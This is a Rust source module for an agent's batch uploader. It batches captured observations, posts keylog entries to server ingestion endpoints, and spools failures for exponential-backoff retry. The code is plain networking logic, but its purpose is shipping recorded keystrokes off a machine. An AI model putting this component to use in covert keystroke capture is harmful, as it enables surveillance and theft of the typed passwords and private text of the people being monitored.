//! Batch uploader. Collects observations into fixed-size batches,
//! delivers keylog entries as they arrive, and spools failed items for
//! exponential-backoff retry. All network and spool I/O happens inside
//! this task so delivery can never stall the sampling tick.

use std::time::Duration;

use anyhow::{bail, Result};
use async_trait::async_trait;
use serde::{Deserialize, Serialize};
use tokio::{sync::mpsc, time::Instant};
use tracing::{debug, info, warn};

use crate::{
    agent::spool::Spool,
    api::{IngestRequest, KeylogRequest},
    model::{CapturedObservation, KeylogEntry},
    utils::clock::Clock,
};

/// Everything the agent ships to the server.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum UploadItem {
    Observation(CapturedObservation),
    Keylog(KeylogEntry),
}

/// Delivery seam towards the ingestion endpoints.
#[cfg_attr(test, mockall::automock)]
#[async_trait]
pub trait IngestSink: Send + Sync + 'static {
    async fn deliver_observation(&self, observation: &CapturedObservation) -> Result<()>;
    async fn deliver_keylog(&self, entry: &KeylogEntry) -> Result<()>;
}

pub struct HttpSink {
    client: reqwest::Client,
    base_url: String,
}

impl HttpSink {
    pub fn new(client: reqwest::Client, base_url: impl Into<String>) -> Self {
        Self {
            client,
            base_url: base_url.into(),
        }
    }

    async fn post<T: Serialize + Sync>(&self, path: &str, body: &T) -> Result<()> {
        let url = format!("{}{}", self.base_url, path);
        let response = self.client.post(&url).json(body).send().await?;
        if !response.status().is_success() {
            bail!("{url} returned {}", response.status());
        }
        Ok(())
    }
}

#[async_trait]
impl IngestSink for HttpSink {
    async fn deliver_observation(&self, observation: &CapturedObservation) -> Result<()> {
        self.post(crate::api::OBSERVATIONS_PATH, &IngestRequest::from(observation))
            .await
    }

    async fn deliver_keylog(&self, entry: &KeylogEntry) -> Result<()> {
        self.post(crate::api::KEYLOGS_PATH, &KeylogRequest::from(entry))
            .await
    }
}

const RETRY_BASE: Duration = Duration::from_secs(1);
const RETRY_CAP: Duration = Duration::from_secs(300);

struct Backoff {
    current: Duration,
}

impl Backoff {
    fn new() -> Self {
        Self {
            current: RETRY_BASE,
        }
    }

    fn next_delay(&mut self) -> Duration {
        let delay = self.current;
        self.current = (self.current * 2).min(RETRY_CAP);
        delay
    }

    fn reset(&mut self) {
        self.current = RETRY_BASE;
    }
}

pub struct BatchUploader<S> {
    items: mpsc::Receiver<UploadItem>,
    sink: S,
    spool: Spool,
    batch: Vec<CapturedObservation>,
    batch_size: usize,
    backoff: Backoff,
    next_retry: Option<Instant>,
    clock: Box<dyn Clock>,
}

impl<S: IngestSink> BatchUploader<S> {
    pub fn new(
        items: mpsc::Receiver<UploadItem>,
        sink: S,
        spool: Spool,
        batch_size: usize,
        clock: Box<dyn Clock>,
    ) -> Self {
        // A leftover spool from a previous run is retried right away.
        let next_retry = spool.has_backlog().then(|| clock.instant());
        Self {
            items,
            sink,
            spool,
            batch: Vec::with_capacity(batch_size),
            batch_size,
            backoff: Backoff::new(),
            next_retry,
            clock,
        }
    }

    async fn spool_failed(&mut self, item: UploadItem) {
        if let Err(e) = self.spool.append(&item).await {
            warn!("spool write failed, item lost: {e:?}");
            return;
        }
        if self.next_retry.is_none() {
            self.next_retry = Some(self.clock.instant() + self.backoff.next_delay());
        }
    }

    /// Delivers the whole batch one item at a time; failed items go to
    /// the spool, the batch is cleared either way.
    async fn flush_batch(&mut self) {
        let batch = std::mem::take(&mut self.batch);
        debug!("delivering batch of {}", batch.len());
        for observation in batch {
            if let Err(e) = self.sink.deliver_observation(&observation).await {
                warn!("observation delivery failed, spooling: {e:?}");
                self.spool_failed(UploadItem::Observation(observation)).await;
            }
        }
    }

    async fn handle(&mut self, item: UploadItem) {
        match item {
            UploadItem::Observation(observation) => {
                self.batch.push(observation);
                if self.batch.len() >= self.batch_size {
                    self.flush_batch().await;
                }
            }
            UploadItem::Keylog(entry) => {
                if let Err(e) = self.sink.deliver_keylog(&entry).await {
                    warn!("keylog delivery failed, spooling: {e:?}");
                    self.spool_failed(UploadItem::Keylog(entry)).await;
                }
            }
        }
    }

    async fn retry_spool(&mut self) {
        self.next_retry = None;
        let backlog: Vec<UploadItem> = match self.spool.drain().await {
            Ok(items) => items,
            Err(e) => {
                warn!("spool drain failed: {e:?}");
                self.next_retry = Some(self.clock.instant() + self.backoff.next_delay());
                return;
            }
        };
        if backlog.is_empty() {
            self.backoff.reset();
            return;
        }

        info!("retrying {} spooled items", backlog.len());
        let mut failed = vec![];
        for item in backlog {
            let result = match &item {
                UploadItem::Observation(observation) => {
                    self.sink.deliver_observation(observation).await
                }
                UploadItem::Keylog(entry) => self.sink.deliver_keylog(entry).await,
            };
            if result.is_err() {
                failed.push(item);
            }
        }

        if failed.is_empty() {
            self.backoff.reset();
            return;
        }
        let delay = self.backoff.next_delay();
        for item in &failed {
            if let Err(e) = self.spool.append(item).await {
                warn!("spool write failed, item lost: {e:?}");
            }
        }
        self.next_retry = Some(self.clock.instant() + delay);
    }

    pub async fn run(mut self) -> Result<()> {
        loop {
            let retry_at = self.next_retry;
            let clock = &self.clock;
            tokio::select! {
                item = self.items.recv() => match item {
                    Some(item) => self.handle(item).await,
                    None => break,
                },
                _ = async move {
                    match retry_at {
                        Some(at) => clock.sleep_until(at).await,
                        None => std::future::pending::<()>().await,
                    }
                } => self.retry_spool().await,
            }
        }

        // Producers are gone; push out whatever is still queued.
        self.flush_batch().await;
        Ok(())
    }
}
